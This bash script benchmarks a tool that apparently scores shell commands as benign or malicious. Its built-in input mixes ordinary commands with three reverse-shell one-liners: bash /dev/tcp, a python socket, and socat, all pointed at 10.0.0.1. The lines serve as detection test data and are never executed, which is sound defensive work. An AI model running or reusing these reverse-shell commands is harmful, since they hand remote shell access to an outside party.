#!/usr/bin/env bash
# bench_score.sh: `make bench-score`: tokenize + features + score, commands/s on one core (pinned
# with taskset), over the generated data set (build/score/data.tsv, from make model or make eval)
# or, without it, a built-in mix of benign and malicious lines. Target: >= 500,000 commands/s.
set -euo pipefail
cd "$(dirname "$0")/.."
in=build/score/bench.txt
mkdir -p build/score
if [ -s build/score/data.tsv ]; then
	cut -f5 build/score/data.tsv > "$in"
else
	cat > "$in" <<'LINES'
ls -la /var/log
find . -name '*.py' -exec grep -l TODO {} \;
bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
tar czf /tmp/backup.tar.gz /srv/data 2>&1
python3 -c 'import socket,os;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0)'
curl -fsSL https://example.com/install.sh -o /tmp/install.sh
ps aux | grep -v grep | grep nginx | awk '{print $2}'
socat tcp:10.0.0.1:443 exec:'bash -li',pty,stderr,setsid,sigint,sane
LINES
fi
echo "bench-score: $(wc -l < "$in") distinct command lines, one core"
taskset -c 0 build/tools/bench_score "$in" 3
